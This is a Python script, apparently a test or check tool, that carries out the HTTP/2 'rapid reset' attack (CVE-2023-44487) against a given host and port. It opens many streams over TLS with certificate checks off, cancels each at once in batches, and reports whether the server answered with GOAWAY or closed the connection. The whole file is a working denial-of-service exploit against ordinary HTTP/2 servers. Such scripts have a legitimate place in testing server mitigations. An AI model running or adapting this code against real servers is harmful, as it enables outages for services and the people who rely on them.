"""An HTTP/2 "rapid reset" client (CVE-2023-44487): opens streams and resets each at once.

Usage: h2_rapid_reset.py HOST PORT STREAMS
Sends STREAMS pairs of HEADERS (a GET that would make the server wait, /?t=300) and RST_STREAM
(CANCEL) in batches, then reads until the server's GOAWAY or the end of the connection.
Prints one line: "goaway CODE" (the GOAWAY's error code) or "closed" if none came.
"""

import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events


def main():
    host, port, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10),
                           server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit("h2 not negotiated")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/?t=300"), (":scheme", "https"),
               (":authority", "localhost")]
    try:
        for i in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            if i % 50 == 49:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass  # the server may end the connection while the attack is still being sent
    while True:
        try:
            data = sock.recv(65536)
        except OSError:
            data = b""
        if not data:
            print("closed")
            return
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            events = []
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                print("goaway %d" % int(event.error_code))
                return


main()
